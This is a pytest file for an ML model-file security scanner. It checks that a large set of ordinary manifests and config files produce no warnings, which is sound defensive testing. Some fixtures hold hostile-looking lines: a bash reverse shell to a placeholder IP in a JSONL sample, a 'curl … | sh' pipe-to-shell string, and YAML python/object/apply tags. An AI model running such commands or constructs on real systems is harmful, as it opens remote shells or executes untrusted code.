"""Manifests as mainstream programs write them: nothing in them is worse than context."""

# ruff: noqa: E501, S104 - texts as their programs write them

from __future__ import annotations

import json
import textwrap

import pytest

import modelaudit

LLAMA = {
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 128000,
    "eos_token_id": [128001, 128008, 128009],
    "hidden_act": "silu",
    "max_position_embeddings": 131072,
    "model_type": "llama",
    "rope_scaling": {"factor": 8.0, "rope_type": "llama3"},
    "rope_theta": 500000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.43.0.dev0",
    "use_cache": True,
    "_name_or_path": "/home/someone/checkpoints/llama/",
    "_attn_implementation_autoset": True,
    "attn_implementation": "flash_attention_2",
}

JSON = {
    "llama/config.json": LLAMA,
    "llava/config.json": {
        "architectures": ["LlavaForConditionalGeneration"],
        "text_config": {"_name_or_path": "lmsys/vicuna-7b-v1.5", "architectures": ["LlamaForCausalLM"], **LLAMA},
        "vision_config": {"hidden_size": 1024, "model_type": "clip_vision_model", "projection_dim": 768},
        "_attn_implementation": {"text_config": "sdpa", "vision_config": "eager"},
    },
    "bert/config.json": {
        "architectures": ["BertForMaskedLM"],
        "attention_probs_dropout_prob": 0.1,
        "classifier_dropout": None,
        "id2label": {"0": "LABEL_0", "1": "exec"},
        "label2id": {"LABEL_0": 0, "exec": 1},
        "task_specific_params": {"summarization": {"prefix": "summarize: ", "num_beams": 4}},
        "custom": {},
        "custom_pipelines": {},
        "auto_map": {},
    },
    "generation_config.json": {
        "_from_model_config": True,
        "bos_token_id": 1,
        "do_sample": True,
        "temperature": 0.6,
        "transformers_version": "4.45.0",
        "trust_remote_code": False,
    },
    "tokenizer_config.json": {
        "add_bos_token": True,
        "added_tokens_decoder": {"0": {"content": "<unk>", "lstrip": False, "special": True}},
        "clean_up_tokenization_spaces": False,
        "eos_token": "</s>",
        "pad_token": None,
        "sp_model_kwargs": {},
        "tokenizer_class": "LlamaTokenizer",
        "vocab_file": "/content/models/vocab.txt",
        "tokenizer_file": "/root/.cache/huggingface/transformers/1a2b3c",
        "special_tokens_map_file": "/home/me/.cache/torch/sentence_transformers/x/special_tokens_map.json",
        "name_or_path": "../models/mine",
        "chat_template": "{% for message in messages %}{{ message['content'] }}{% endfor %}",
    },
    "tokenizer.json": {
        "version": "1.0",
        "truncation": None,
        "added_tokens": [{"id": 0, "content": "<pad>", "special": True}],
        "normalizer": {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "▁"}]},
        "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(?i:'s|'t)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+"}},
        "model": {
            "type": "BPE",
            "vocab": {"os.system": 5, "eval": 6, "_target_": 7, "type": 8},
            "merges": ["e v", "ev al"],
        },
    },
    "vocab.json": {
        "!": 0,
        '"': 1,
        "module": 5,
        "__import__": 9,
        "class": 10,
        "code": 11,
        "()": 12,
        "run": 13,
        "args": 14,
    },
    "special_tokens_map.json": {"bos_token": {"content": "<s>", "lstrip": False}, "eos_token": "</s>"},
    "preprocessor_config.json": {
        "do_normalize": True,
        "feature_extractor_type": "CLIPFeatureExtractor",
        "image_mean": [0.48145466, 0.4578275, 0.40821073],
        "image_processor_type": "CLIPImageProcessor",
        "processor_class": "CLIPProcessor",
    },
    "adapter_config.json": {
        "auto_mapping": {
            "base_model_class": "LlamaForCausalLM",
            "parent_library": "transformers.models.llama.modeling_llama",
        },
        "base_model_name_or_path": "meta-llama/Llama-2-7b-hf",
        "bias": "none",
        "lora_alpha": 16,
        "modules_to_save": None,
        "peft_type": "LORA",
        "target_modules": ["q_proj", "model.layers.0.self_attn.v_proj"],
        "task_type": "CAUSAL_LM",
    },
    "trainer_state.json": {
        "best_metric": None,
        "best_model_checkpoint": "./results/checkpoint-500",
        "log_history": [{"epoch": 0.5, "loss": float("nan"), "step": 500}],
        "global_step": 1000,
    },
    "model.safetensors.index.json": {
        "metadata": {"total_size": 13476839424},
        "weight_map": {"lm_head.weight": "model-00002-of-00002.safetensors"},
    },
    "sd/model_index.json": {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.6.0",
        "feature_extractor": ["transformers", "CLIPImageProcessor"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "requires_safety_checker": True,
        "image_encoder": [None, None],
        "unet": ["diffusers", "UNet2DConditionModel"],
    },
    "onnx/model_index.json": {
        "_class_name": "OnnxStableDiffusionPipeline",
        "_diffusers_version": "0.3.0.dev0",
        "unet": ["diffusers", "OnnxRuntimeModel"],
        "text_encoder": ["optimum.onnxruntime.modeling_diffusion", "ORTModelTextEncoder"],
    },
    "sentence/modules.json": [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Dense", "type": "pylate.models.Dense.Dense"},
    ],
    "sentence/2_Dense/config.json": {"activation_function": "torch.nn.modules.activation.Tanh", "in_features": 768},
    "keras/config.json": {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"activation": "relu"}}]},
        "registered_name": "Functional",
    },
    "package.json": {
        "name": "x",
        "scripts": {"build": "tsc && node dist/x.js", "postinstall": "node-gyp rebuild"},
        "main": "x.js",
    },
    "notebook.ipynb": {
        "cells": [
            {
                "cell_type": "code",
                "metadata": {},
                "outputs": [],
                "source": ["import os\n", "os.system('pip install torch')\n"],
            },
            {"cell_type": "markdown", "source": ["curl https://x.org | sh and trust_remote_code=True"]},
        ],
        "metadata": {"kernelspec": {"name": "python3"}},
        "nbformat": 4,
    },
    "mlpackage/Manifest.json": {
        "fileFormatVersion": "1.0.0",
        "itemInfoEntries": {
            "A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"},
            "B": {"author": "com.apple.CoreML", "name": "weights", "path": "com.apple.CoreML/weights"},
        },
        "rootModelIdentifier": "A",
    },
    "server.json": {
        "host": "0.0.0.0",
        "port": 8080,
        "log_file": "/var/log/x.log",
        "api_version": "v1",
        "api_base": "http://127.0.0.1:8000/v1",
    },
    "words.json": {
        "command_r": 1,
        "exec_time": 0.5,
        "execution_mode": "eager",
        "system_prompt": "You eval. Import os.",
        "eval_steps": 5,
    },
    "ds_config.json": {
        "fp16": {"enabled": "auto"},
        "zero_optimization": {"stage": 3},
        "optimizer": {"type": "AdamW", "params": {"lr": 1e-5}},
    },
    "results.json": {
        "config": {"model_args": "pretrained=x/y,trust_remote_code=True"},
        "results": {"mmlu": {"acc,none": 0.5}},
    },
    "monai/metadata.json": {"version": "0.1", "network_data_format": {"inputs": {"image": {"type": "image"}}}},
    "monai/inference.json": {
        "imports": ["$import glob", "$import os"],
        "bundle_root": ".",
        "dataset_dir": "$@bundle_root + '/data'",
        "datalist": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))",
        "network_def": {"_target_": "UNet", "spatial_dims": 3},
        "network": "$@network_def.to(@device)",
        "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        "preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "LoadImaged", "keys": "image"}]},
    },
}

TEXTS = {
    "MLmodel": """
        artifact_path: model
        flavors:
          python_function:
            code: null
            env:
              conda: conda.yaml
              virtualenv: python_env.yaml
            loader_module: mlflow.sklearn
            model_path: model.pkl
            predict_fn: predict
            python_version: 3.10.12
          sklearn:
            code: null
            pickled_model: model.pkl
            serialization_format: cloudpickle
            sklearn_version: 1.3.0
        mlflow_version: 2.7.1
        model_uuid: 1e6bd2e0b4e24bd9a4e2bd5d9d1b6e3c
        run_id: 0f3c
        utc_time_created: '2023-10-01 12:00:00.000000'
        """,
    "conda.yaml": """
        channels:
        - conda-forge
        dependencies:
        - python=3.10.12
        - pip<=23.2
        - pip:
          - mlflow==2.7.1
          - git+https://github.com/huggingface/transformers@abc
        name: mlflow-env
        """,
    "MLproject": """
        name: My Project
        conda_env: conda.yaml
        entry_points:
          main:
            parameters:
              data_file: path
              regularization: {type: float, default: 0.1}
            command: "python train.py -r {regularization} {data_file}"
        """,
    "hydra/config.yaml": """
        defaults:
          - _self_
          - model: resnet
        hydra:
          run:
            dir: outputs/${now:%Y-%m-%d}
          job_logging:
            handlers:
              file: {class: logging.FileHandler, filename: "${hydra.job.name}.log"}
        model:
          _target_: torchvision.models.resnet18
          num_classes: 10
        optimizer:
          _target_: torch.optim.AdamW
          _partial_: true
          lr: 1e-3
        scheduler: {_target_: torch.optim.lr_scheduler.ReduceLROnPlateau, mode: min}
        trainer:
          _target_: lightning.pytorch.trainer.Trainer
          callbacks:
            - _target_: lightning.pytorch.callbacks.ModelCheckpoint
        encoder:
          _target_: transformers.AutoModel.from_pretrained
          pretrained_model_name_or_path: bert-base-uncased
        """,
    "lightning/config.yaml": """
        # lightning.pytorch==2.1.0
        seed_everything: true
        trainer:
          logger:
            class_path: lightning.pytorch.loggers.TensorBoardLogger
            init_args: {save_dir: logs}
          callbacks:
          - class_path: lightning.pytorch.callbacks.EarlyStopping
            init_args: {monitor: val_loss}
        optimizer:
          class_path: Adam
        """,
    "hparams.yaml": """
        lr: 0.001
        sizes: !!python/tuple
        - 1
        - 2
        args: !!python/object:argparse.Namespace
          gpus: 1
          name: x
        device: !!python/object/apply:torch.device
        - cpu
        order: !!python/object/apply:collections.OrderedDict
        - - - a
            - 1
        path: !!python/object/apply:pathlib.PosixPath
        - data
        text: !!python/unicode 'x'
        """,
    "nemo/model_config.yaml": """
        sample_rate: 16000
        train_ds:
          manifest_filepath: ???
        preprocessor:
          _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
          normalize: per_feature
        encoder:
          _target_: nemo.collections.asr.modules.ConformerEncoder
        decoding:
          strategy: greedy
        optim: {name: adamw, lr: 2.0}
        target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
        nemo_version: 1.20.0
        """,
    "ldm/v1-inference.yaml": """
        model:
          base_learning_rate: 1.0e-04
          target: ldm.models.diffusion.ddpm.LatentDiffusion
          params:
            unet_config:
              target: ldm.modules.diffusionmodules.openaimodel.UNetModel
              params: {image_size: 32}
        """,
    "speechbrain/hyperparams.yaml": """
        # Hparams of a tokenizer
        token_list: <tokenizer>
        pretrained_path: speechbrain/asr-crdnn
        compute_features: !new:speechbrain.lobes.features.Fbank
            sample_rate: 16000
        enc: !new:torch.nn.Linear
            input_size: !ref <compute_features> * 2
        modules:
            normalizer: !ref <enc>
        bn: !name:torch.nn.BatchNorm1d
        pretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer
            loadables: {a: !ref <enc>}
        """,
    "espnet/config.yaml": "config: conf/train.yaml\nprint_config: false\nlog_level: INFO\ntoken_list:\n- <blank>\n- '!'\n- ▁THE\n",
    "axolotl.yml": "base_model: x/y\nmodel_type: LlamaForCausalLM\ntrust_remote_code: false\ndatasets:\n  - path: a/b\n    type: alpaca\n",
    "docker-compose.yml": """
        services:
          web:
            image: nginx
            command: ["nginx", "-g", "daemon off;"]
            ports: ["80:80"]
            environment:
              - URL=http://10.0.0.5:80
        """,
    ".github/workflows/ci.yml": """
        name: CI
        on: [push]
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v4
              - run: curl -sSL https://install.python-poetry.org | python3 -
              - run: |
                  pip install -e .
                  pytest
        """,
    "serving.yaml": "x-anchors: &base {a: 1, b: 2}\none: {<<: *base, c: 3}\ntwo: {<<: *base, a: 5}\nurl: http://192.168.0.5:5000\n",
    "README.md": """
        ---
        license: apache-2.0
        tags: [x, y]
        widget:
        - text: "Paris is the [MASK] of France"
        model-index:
        - name: x
          results: []
        ---
        # Model: a card

        Use `trust_remote_code=True`: it runs { code }. Don't `!!worry`.
        """,
    "README": "This is a model.\nNote: it is good: really.\n\n- one\n- two: three: four\n",
    "NOTICE": "note: this begins like a mapping\nbut goes on like prose: with colons: many\n",
    "env.yml": "name: base\nchannels: [defaults]\ndependencies: [python=3.9, {pip: [torch]}]\n",
    "config.pbtxt": 'name: "resnet"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\ninput [\n  {\n    name: "x"\n    dims: [ 3 ]\n  }\n]\n',
    "checkpoint": 'model_checkpoint_path: "model-2"\nall_model_checkpoint_paths: "model-1"\nall_model_checkpoint_paths: "model-2"\n',
    "config.cfg": """
        [paths]
        train = null

        [nlp]
        lang = "en"
        pipeline = ["tok2vec","ner"]
        tokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}

        [components.ner]
        factory = "ner"

        [components.tok2vec.model]
        @architectures = "spacy.Tok2Vec.v2"
        """,
    "setup.cfg": "[metadata]\nname = x\n\n[options.entry_points]\nconsole_scripts =\n    x = x.cli:main\n\n[flake8]\nmax-line-length = 100\n",
    "alembic.ini": """
        [loggers]
        keys = root
        [handlers]
        keys = console
        [handler_console]
        class = StreamHandler
        args = (sys.stderr,)
        level = NOTSET
        """,
    "darknet.cfg": "[net]\nbatch=64\nsubdivisions=16\nmean=.5,.5\n\n[convolutional]\nfilters=32\nactivation=leaky\n\n[convolutional]\nfilters=64\n",
    "pyproject.toml": """
        [build-system]
        requires = ["setuptools>=61"]
        build-backend = "setuptools.build_meta"

        [project]
        name = "x"
        dependencies = [
          "torch>=2",
        ]
        [project.scripts]
        x = "x.cli:main"
        [[tool.mypy.overrides]]
        module = "torch.*"
        """,
    "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0\n-r base.txt\ngit+https://github.com/x/y@abc#egg=y\n# a comment\n",
    "model.xml": '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" type="Const"><data offset="0" size="4"/></layer></layers></net>',
    "model.pmml": """<?xml version="1.0" encoding="UTF-8"?>
        <PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="SkLearn2PMML"/>
        <Extension name="timestamp" value="now" extender="x"/></Header>
        <MiningBuildTask><Extension name="repr">PMMLPipeline(steps=[("a", eval)])</Extension></MiningBuildTask>
        <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
        <TransformationDictionary><DerivedField name="y"><Apply function="log10"><FieldRef field="x"/></Apply></DerivedField>
        </TransformationDictionary></PMML>""",
    "Info.plist": """<?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
        <plist version="1.0"><dict><key>a</key><true/></dict></plist>""",
    "icon.svg": """<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"
        [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"><path d="M0"/></svg>""",
    "index.html": "<!DOCTYPE html>\n<html><body><br>text & more</body></html>\n",
    "vocab.txt": "<pad>\n<unk>\n[CLS]\n[SEP]\n[MASK]\n!\n##ing\nthe\n",
    "merges.txt": "#version: 0.2\nĠ t\nĠ a\nh e\n",
    "badges.md": "[![CI](https://x.org/b.svg)](https://x.org)\n# Title\n",
    "train.log": "[2024-01-01 10:00:00] INFO: loss: 0.5\n[2024-01-01 10:00:01] INFO: loss: 0.4\n",
    "data.jsonl": '{"text": "bash -i >& /dev/tcp/1.2.3.4/5", "label": 1}\n{"text": "x", "label": 0}\n',
    "data.csv": "a,b\n1,2\n",
    "script.py": "import os\n\ndef main():\n    os.system('x')\n",
    "Makefile": "all: build\n\nbuild:\n\tcargo build\n",
    "Dockerfile": "FROM python:3.10\nRUN pip install torch\nCMD python serve.py\n",
    "fix.patch": "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a: b\n+a: c\n",
    "notes.txt": "---\nSome text: that goes on: here\n---\n",
    "tsconfig.json": '{\n  // a comment\n  "a": [1, 2,], /* "b": */\n}\n',
    "hydra.yaml": "hydra:\n  launcher: {_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher}\n  data: {_target_: torchvision.datasets.MNIST}\n",
    "template.txt": "{{ messages }}\n",
    "latin.txt": "caf\u00e9: x\n",
}

CASES = {
    **{name: json.dumps(value, indent=2, ensure_ascii=False).encode() for name, value in JSON.items()},
    **{f"compact {name}": json.dumps(value).encode() for name, value in JSON.items()},
    **{name: textwrap.dedent(text).lstrip("\n").encode() for name, text in TEXTS.items()},
}


@pytest.mark.parametrize("name", CASES)
def test_an_ordinary_manifest_has_no_issue_above_info(name: str) -> None:
    report = modelaudit.scan_bytes(CASES[name], name.rpartition(" ")[2])
    assert [(issue.rule, issue.message) for issue in report.issues if issue.severity != "info"] == []
    assert report.files[0].coverage.status == "complete"
